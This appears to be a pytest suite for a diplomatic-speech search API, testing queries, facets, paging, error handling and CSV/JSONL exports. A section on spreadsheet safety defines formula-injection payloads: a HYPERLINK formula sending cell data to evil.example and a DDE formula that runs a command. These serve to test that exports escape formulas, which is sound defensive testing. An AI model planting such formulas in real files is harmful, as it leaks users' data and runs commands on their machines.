"""The JSON API: every parameter, error and limit, on a small real index."""

from __future__ import annotations

import dataclasses
import json
from urllib.parse import quote

import pytest


@pytest.fixture(scope="module")
def client(api_app):
    return api_app.test_client()


def get(client, url, status=200):
    response = client.get(url)
    assert response.status_code == status, response.get_data(as_text=True)
    return response.json


def ids(result):
    return [h["id"] for h in result["hits"]]


def test_search_returns_hits_with_metadata_and_safe_snippets(client):
    result = get(client, "/api/search?q=disarmament&facets=speaker,country,year")
    assert result["total"] == 2
    assert set(ids(result)) == {"gromyko-1960", "france-1989"}
    hit = next(h for h in result["hits"] if h["id"] == "gromyko-1960")
    assert hit["date"].startswith("1960") and hit["date_precision"] == "year"
    assert hit["speakers"][0]["name"] == "Andrei Gromyko"
    assert hit["speakers"][0]["role"] == "Minister for Foreign Affairs"
    assert any("<mark>disarmament</mark>" in s for s in hit["snippets"])
    assert result["took_ms"] >= 0 and result["partial"] is False
    assert {v["value"] for v in result["facets"]["year"]["values"]} == {1960, 1989}


def test_speaker_spellings_are_one_facet_value(client):
    result = get(client, "/api/search?facets=speaker&unit=documents")
    speakers = {v["value"]: v["count"] for v in result["facets"]["speaker"]["values"]}
    assert speakers["Eduard Shevardnadze"] == 2
    assert not any(s.lower().startswith("mr") for s in speakers)


def test_exact_phrase_and_stop_word_gap(client):
    assert ids(get(client, '/api/search?q="Security Council reform"')) == ["shevardnadze-1989"]


def test_curly_quotes_and_typographic_dashes_work_like_plain_ones(client):
    plain = get(client, '/api/search?q="rules-based order"')
    curly = get(client, "/api/search?q=\u201crules\u2010based order\u201d")
    assert ids(plain) == ids(curly) and plain["total"] >= 2
    snippet = next(h for h in curly["hits"] if h["id"] == "japan-2022")["snippets"][0]
    assert "<mark>rules-based order</mark>" in snippet
    assert snippet.count("<mark>") == 1  # a phrase's words are not marked on their own


def test_accent_folding(client):
    assert set(ids(get(client, "/api/search?q=détente"))) == {"shevardnadze-1988",
                                                              "shevardnadze-1989"}


def test_filters_or_within_and_across_facets(client):
    one = get(client, "/api/search?country=France")
    assert ids(one) == ["france-1989"]
    two = get(client, "/api/search?country=France&country=Japan")
    assert set(ids(two)) == {"france-1989", "japan-2022"}
    both = get(client, "/api/search?country=France&country=Japan&type=statement")
    assert ids(both) == ["japan-2022"]


def test_facets_are_disjunctive(client):
    result = get(client, "/api/search?speaker=Eduard%20Shevardnadze&facets=speaker")
    values = {v["value"]: v for v in result["facets"]["speaker"]["values"]}
    assert result["total"] == 2
    assert values["Eduard Shevardnadze"]["selected"] is True
    assert values["Andrei Gromyko"]["count"] == 1  # still counted: own filter not applied


def test_date_range_by_year_month_and_day(client):
    assert set(ids(get(client, "/api/search?date_from=1989&date_to=1989"))) == {
        "shevardnadze-1989", "france-1989"}
    assert ids(get(client, "/api/search?date_from=2022-03&date_to=2022-03")) == ["japan-2022"]
    assert ids(get(client, "/api/search?date_from=2022-03-04&date_to=2022-03-04")) == [
        "japan-2022"]
    assert get(client, "/api/search?date_from=2022-03-05&date_to=2022-12-31")["total"] == 0


def test_units_passages_and_quotes(client):
    passages = get(client, "/api/search?q=perestroika&unit=passages")
    assert ids(passages) == ["shevardnadze-1988#p0"]
    quotes = get(client, "/api/search?unit=quotes&speaker=Lloyd%20Austin")
    assert quotes["total"] == 3
    assert all(h["quote"]["speaker"] == "Lloyd Austin" for h in quotes["hits"])
    hayashi = get(client, "/api/search?q=status%20quo&unit=quotes")
    assert hayashi["hits"][0]["quote"]["speaker"] == "Yoshimasa Hayashi"


def test_document_hits_carry_their_matching_quotes(client):
    result = get(client, "/api/search?q=%22rules-based%20order%22")
    seed = next(h for h in result["hits"] if h["id"].startswith("us-japan"))
    assert seed["quotes"] and "rules-based order" in seed["quotes"][0]["html"]


def test_sort_by_date_both_ways(client):
    oldest = get(client, "/api/search?sort=date&unit=documents")["hits"]
    newest = get(client, "/api/search?sort=-date&unit=documents")["hits"]
    assert oldest[0]["id"] == "gromyko-1960" and newest[0]["id"] == "japan-2022"
    assert [h["date"] for h in oldest] == sorted(h["date"] for h in oldest)
    assert [h["date"] for h in newest] == sorted((h["date"] for h in newest), reverse=True)


def test_paging_and_cursor_reach_every_hit_once(client):
    seen, url = [], "/api/search?sort=date&per_page=2"
    first = get(client, url)
    seen += ids(first)
    assert first["links"]["next"].endswith("page=2") or "page=2" in first["links"]["next"]
    cursor = first["next_cursor"]
    while cursor:
        page = get(client, f"{url}&cursor={cursor}")
        seen += ids(page)
        cursor = page["next_cursor"]
    assert len(seen) == len(set(seen)) == first["total"]


def test_syntax_errors_fall_back_with_a_warning(client):
    for q in ['"nuclear disarmament', "(nuclear OR", "nuclear AND", "AND", "speaker:"]:
        result = get(client, "/api/search?q=" + q)
        assert result["warnings"], q


def test_proximity_and_half_remembered_quotes(client):
    result = get(client, "/api/search?q=proposes%20treaty%20nuclear%20disarmament%20soviet")
    assert ids(result)[0] == "gromyko-1960"
    misremembered = get(client, "/api/search?q=Soviet%20Union%20suggests%20a%20treaty%20on%20"
                                "nuclear%20disarmament")
    assert ids(misremembered)[0] == "gromyko-1960"


def test_did_you_mean(client):
    result = get(client, "/api/search?q=disarmamant")
    assert result["total"] == 0
    assert result["suggestion"] == "disarmament"


@pytest.mark.parametrize("q", ["A-0", "x", "0 zz"])
def test_short_unknown_words_get_no_suggestion_and_no_error(client, q):
    """Found by the fuzz test: a one-letter word broke Whoosh's Levenshtein automaton."""
    result = get(client, "/api/search?q=" + q)
    assert result["total"] == 0 and result["suggestion"] is None


@pytest.mark.parametrize("url, code, param", [
    ("/api/search?date_from=2022-13", "bad_date", "date_from"),
    ("/api/search?date_to=yesterday", "bad_date", "date_to"),
    ("/api/search?date_from=2023&date_to=2022", "bad_date_range", "date_from"),
    ("/api/search?per_page=101", "per_page_out_of_range", "per_page"),
    ("/api/search?per_page=abc", "bad_integer", "per_page"),
    ("/api/search?page=0", "page_out_of_range", "page"),
    ("/api/search?page=1001", "page_out_of_window", "page"),
    ("/api/search?facets=mood", "unknown_facet", "facets"),
    ("/api/search?sort=random", "unknown_sort", "sort"),
    ("/api/search?unit=words", "unknown_unit", "unit"),
    ("/api/search?cursor=notacursor", "bad_cursor", "cursor"),
    ("/api/search?q=" + "a" * 1001, "query_too_long", "q"),
    ("/api/search?q=" + "%20".join(f"w{i}" for i in range(70)), "too_many_terms", "q"),
    ("/api/search?q=s*", "too_many_expansions", "q"),
    ("/api/speakers?limit=0", "limit_out_of_range", "limit"),
])
def test_bad_parameters_get_400_with_code_and_param(client, url, code, param):
    error = get(client, url, status=400)["error"]
    assert (error["code"], error["param"]) == (code, param)
    assert error["message"]


def test_unknown_document_and_route_are_json_404(client):
    assert get(client, "/api/documents/nope", status=404)["error"]["code"] == "not_found"
    assert get(client, "/api/nothing", status=404)["error"]["code"] == "not_found"


def test_document_endpoint_has_text_and_quotes(client):
    doc = get(client, "/api/documents/us-japan-defence-cooperation-2022-01-07")
    text = "\n\n".join(doc["paragraphs"])
    assert len(doc["quotes"]) == 9
    for quote in doc["quotes"]:
        assert text[quote["start"]:quote["end"]] == quote["text"]


def test_speakers_stats_and_facet_size(client):
    speakers = get(client, "/api/speakers?prefix=shev")["speakers"]
    assert [s["name"] for s in speakers] == ["Eduard Shevardnadze"]
    assert speakers[0]["documents"] == 2
    stats = get(client, "/api/stats")
    assert stats["documents"] == 6 and stats["quotes"] >= 10
    result = get(client, "/api/search?facets=speaker&facet_size=1")
    assert len(result["facets"]["speaker"]["values"]) == 1
    assert result["facets"]["speaker"]["truncated"] is True


def test_exports_stream_every_hit(client):
    csv_text = download(client, "/api/export.csv?q=disarmament")[2]
    lines = csv_text.strip().splitlines()
    assert lines[0].startswith("id,doc_id,unit") and len(lines) == 3
    jsonl = download(client, "/api/export.jsonl?unit=quotes&speaker=Lloyd%20Austin")[2]
    rows = [json.loads(line) for line in jsonl.splitlines()]
    assert len(rows) == 3 and all(r["quote"]["speaker"] == "Lloyd Austin" for r in rows)
    assert download(client, "/api/export.csv?per_page=abc")[0] == 400


def test_cors_header(client):
    assert client.get("/api/stats").headers["Access-Control-Allow-Origin"] == "*"


def test_every_document_hit_has_its_best_passage_highlighted(client):
    result = get(client, "/api/search?q=disarmament%20OR%20order%20OR%20treaty")
    assert result["total"] >= 3
    for hit in result["hits"]:
        assert hit["passage"] and "<mark>" in hit["snippets"][0], hit["id"]


def test_field_syntax_with_a_quoted_value(client):
    result = get(client, '/api/search?q=speaker:"Lloyd Austin"&unit=quotes')
    assert not result["warnings"] and result["total"] == 3


def test_time_limit_returns_partial_results_flagged(tmp_path, corpus):
    from search.config import load_config
    from search.engine import configured_limits
    from search.service.indexing import build
    from search.service.request import SearchRequest
    from search.service.searching import SearchService

    from .conftest import speeches, write_config

    (corpus / "speeches.jsonl").write_text(speeches(100))
    config = load_config(write_config(tmp_path, corpus))
    assert build(config).ok
    service = SearchService(config, dataclasses.replace(configured_limits(config), time_limit=1e-9))
    result = service.search(SearchRequest(q="delegation", unit="passages"))
    assert result["partial"] is True
    assert any("partial" in w for w in result["warnings"])
    assert 0 < result["total"] < 100 * 12


def test_hyphenated_words_are_highlighted_as_one_span(client):
    result = get(client, "/api/search?q=rules-based&unit=passages")
    assert all("<mark>rules-based</mark>" in h["snippets"][0] for h in result["hits"])


# -- hostile and odd inputs: a 4xx naming the parameter, never a 500 -------------------------

def download(client, url):
    """status, headers and text of a (streamed) response, closed after: an export holds a slot
    for expensive requests until its body is sent."""
    with client.get(url) as response:
        return response.status_code, response.headers, response.get_data(as_text=True)


@pytest.mark.parametrize("params", [
    "date_to=9999-12", "date_to=9999-12-31", "date_to=9999", "date_from=9999-12-31",
    "date_from=0001&date_to=0001-01", "date_from=2024-02-29&date_to=2024-02-29",
    "date_to=2000-02", "date_to=1900-02", "date_to=2023-12",
])
def test_edge_dates_answer(client, params):
    result = get(client, "/api/search?" + params)
    assert result["total"] >= 0 and result["query"]["date_to"] != "bad"


def test_an_end_bound_covers_its_whole_period(client):
    query = get(client, "/api/search?date_from=2024-02&date_to=2024-02")["query"]
    assert (query["date_from"], query["date_to"]) == ("2024-02-01T00:00:00", "2024-02-29T23:59:59")
    assert get(client, "/api/search?date_to=9999-12")["query"]["date_to"] == "9999-12-31T23:59:59"
    assert get(client, "/api/search?date_to=1900-02")["query"]["date_to"] == "1900-02-28T23:59:59"


@pytest.mark.parametrize("value", [
    "0000", "0000-01", "0000-01-01", "2022-13", "2022-00", "2022-01-00", "2022-02-30",
    "2023-02-29", "1900-02-29", "2022-04-31", "10000", "2022-1", "2022-01-1", "22",
    "\u0662\u0660\u0662\u0662", "２０２２", "2022-01-07T10:00", "2022/01/07", "-2022",
])
def test_impossible_dates_are_bad_date(client, value):
    for param in ("date_from", "date_to"):
        error = get(client, f"/api/search?{param}={quote(value)}", status=400)["error"]
        assert (error["code"], error["param"]) == ("bad_date", param), value


@pytest.mark.parametrize("value, code", [
    ("\u00b3", "bad_integer"), ("\u0663", "bad_integer"), ("1e3", "bad_integer"),
    ("1_0", "bad_integer"), ("1.0", "bad_integer"), ("x", "bad_integer"),
    ("-1", "limit_out_of_range"), ("0", "limit_out_of_range"), ("1001", "limit_out_of_range"),
    ("9" * 5000, "limit_out_of_range"),
])
def test_speakers_limit_is_validated_like_every_integer(client, value, code):
    error = get(client, f"/api/speakers?limit={quote(value)}", status=400)["error"]
    assert (error["code"], error["param"]) == (code, "limit")


def test_speakers_limit_empty_is_the_default_and_in_range_values_work(client):
    assert get(client, "/api/speakers?limit=")["speakers"]
    assert len(get(client, "/api/speakers?limit=1")["speakers"]) == 1
    assert len(get(client, "/api/speakers?limit=%2B2")["speakers"]) == 2


@pytest.mark.parametrize("param", ["page", "per_page", "facet_size"])
def test_huge_and_unicode_integers_are_4xx(client, param):
    for value in ["9" * 5000, "-" + "9" * 40, "\u00b3", "\u0665", "0x10"]:
        error = get(client, f"/api/search?{param}={quote(value)}", status=400)["error"]
        assert error["param"] == param and error["code"] in (
            "bad_integer", f"{param}_out_of_range", "page_out_of_window"), (param, value)


def test_a_cursor_of_the_live_version_with_no_document_number_is_400(client):
    import base64
    version = get(client, "/api/stats")["index_version"]
    for key in ([1.0, f"{version}:abc"], [1.0, f"{version}:"], [1.0, f"{version}:\u00b3"],
                [None, f"{version}:-1"], [1.0, f"{version}:1e3"], [{}, f"{version}:1.5"]):
        cursor = base64.urlsafe_b64encode(json.dumps(key).encode()).decode().rstrip("=")
        error = get(client, f"/api/search?cursor={cursor}", status=400)["error"]
        assert error["code"] in ("cursor_expired", "bad_cursor") and error["param"] == "cursor"


def test_405_keeps_its_allow_header(client):
    for url in ("/api/search", "/api/export.csv", "/api/stats"):
        response = client.post(url)
        assert response.status_code == 405
        assert response.json["error"]["code"] == "method_not_allowed"
        assert "GET" in response.headers["Allow"]


# -- exports tell whether they hold every hit --------------------------------------------------

def test_a_complete_export_says_so_and_has_no_marker(client):
    status, headers, text = download(client, "/api/export.csv?q=disarmament")
    assert status == 200
    assert (headers["X-Export-Total"], headers["X-Export-Rows"]) == ("2", "2")
    assert headers["X-Export-Complete"] == "true" and "X-Export-Partial" not in headers
    assert "# export incomplete" not in text and len(text.strip().splitlines()) == 3
    status, headers, text = download(client, "/api/export.jsonl?q=disarmament")
    assert headers["X-Export-Complete"] == "true"
    assert [set(json.loads(line)) >= {"id"} for line in text.splitlines()] == [True, True]


def test_an_export_cut_at_the_cap_says_so_in_headers_and_a_last_row(client, api_app,
                                                                      monkeypatch):
    import csv
    import io
    monkeypatch.setitem(api_app.config["DIPSEARCH"].values["search"], "export_cap", 1)
    status, headers, text = download(client, "/api/export.csv?q=disarmament")
    assert status == 200
    assert (headers["X-Export-Total"], headers["X-Export-Rows"],
            headers["X-Export-Complete"]) == ("2", "1", "false")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 3  # header, one hit, the marker
    assert rows[-1][0] == "# export incomplete: 1 of 2 rows (cap 1)"
    assert len(rows[-1]) == len(rows[0])
    status, headers, text = download(client, "/api/export.jsonl?q=disarmament")
    lines = [json.loads(line) for line in text.splitlines()]
    assert len(lines) == 2 and headers["X-Export-Complete"] == "false"
    assert lines[-1] == {"_export": {"complete": False, "rows": 1, "total": 2, "cap": 1,
                                     "partial": False}}


def test_an_export_that_ran_out_of_time_says_so(client, api_app, monkeypatch):
    service = api_app.extensions["search_service"]
    real = service.export

    def partial(req, cap):
        summary, rows = real(req, cap)
        return dict(summary, partial=True, complete=False), rows

    monkeypatch.setattr(service, "export", partial)
    status, headers, text = download(client, "/api/export.csv?q=disarmament")
    assert headers["X-Export-Partial"] == "true" and headers["X-Export-Complete"] == "false"
    last = text.strip().splitlines()[-1]
    assert last.startswith("# export incomplete: the search ran out of time; 2 of at least 2")
    status, headers, text = download(client, "/api/export.jsonl?q=disarmament")
    assert json.loads(text.splitlines()[-1])["_export"]["partial"] is True


# -- CSV cells are safe to open in a spreadsheet -------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def formula_client(tmp_path_factory):
    """An app over a corpus whose metadata and text start with spreadsheet formulas."""
    from search.config import load_config
    from search.service.indexing import build
    from web import create_app

    from .conftest import write_config

    tmp = tmp_path_factory.mktemp("formulas")
    corpus = tmp / "corpus"
    corpus.mkdir()
    record = {"id": "formula-1", "title": HYPERLINK, "year": 2020, "speaker": DDE,
              "country": "+1+2", "source": "@SUM(1+1)", "type": "speech",
              "text": DDE + " spreadsheet injection attempt.\n\n"
                      "-10+20 and the rest of a harmless paragraph about spreadsheets."}
    (corpus / "formulas.jsonl").write_text(json.dumps(record) + "\n")
    config = load_config(write_config(tmp, corpus))
    assert build(config).ok
    return create_app(config).test_client()


def test_csv_cells_that_start_a_formula_get_a_leading_quote(formula_client):
    import csv
    import io
    for unit in ("documents", "passages"):
        status, _, text = download(formula_client, f"/api/export.csv?q=spreadsheet&unit={unit}")
        assert status == 200
        rows = list(csv.DictReader(io.StringIO(text)))
        assert rows, unit
        for row in rows:
            assert row["title"] == "'" + HYPERLINK
            assert row["source"] == "'@SUM(1+1)"
            assert row["country"] == "'+1+2"
            for cell in row.values():
                assert not cell or cell[0] not in "=+-@\t\r", (unit, cell)
        if unit == "passages":
            texts = sorted(r["text"] for r in rows)
            assert texts == sorted(["'" + DDE + " spreadsheet injection attempt.",
                                    "'-10+20 and the rest of a harmless paragraph about "
                                    "spreadsheets."])
    # JSON Lines carries the values as they are: no spreadsheet reads it
    _, _, text = download(formula_client, "/api/export.jsonl?q=spreadsheet")
    assert json.loads(text.splitlines()[0])["title"] == HYPERLINK


def test_csv_cell_rule():
    from web.api import _cell
    assert [_cell(v) for v in ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=b", "", None]] == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=b", "", ""]
    assert _cell(-1.5) == -1.5 and _cell(1960) == 1960


def test_pasted_markdown_emphasis_is_not_a_wildcard(client):
    """A sentence pasted from a speech with **bold** words searches for the words."""
    plain = get(client, "/api/search?q=nuclear+disarmament")
    bold = get(client, "/api/search?q=%2A%2Anuclear%2A%2A+disarmament")
    assert bold["total"] == plain["total"] > 0
    assert [h["id"] for h in bold["hits"]] == [h["id"] for h in plain["hits"]]


# -- forgiving value search: speaker:gromyko ---------------------------------------------------

@pytest.mark.parametrize("q", ["speaker:Gromyko", "speaker:gromyko", "speaker:'andrei gromyko'",
                               "speaker:GROMYKO disarmament"])
def test_a_surname_or_any_case_finds_the_canonical_speaker(client, q):
    body = client.get(f"/api/search?q={quote(q)}").json
    assert "gromyko-1960" in {h["doc_id"] for h in body["hits"]}
    assert "Andrei Gromyko" in body["query"]["understood"] and not body["warnings"]


def test_other_value_facets_forgive_case_too(client):
    body = client.get("/api/search?q=country:france").json
    assert body["total"] >= 1 and {h["country"] for h in body["hits"]} == {"France"}


def test_an_unknown_speaker_says_so_with_the_nearest_names(client):
    body = client.get(f"/api/search?q={quote('speaker:Gromyco')}").json
    assert body["total"] == 0
    assert any("no speaker is named 'Gromyco'" in w and "Andrei Gromyko" in w
               for w in body["warnings"])
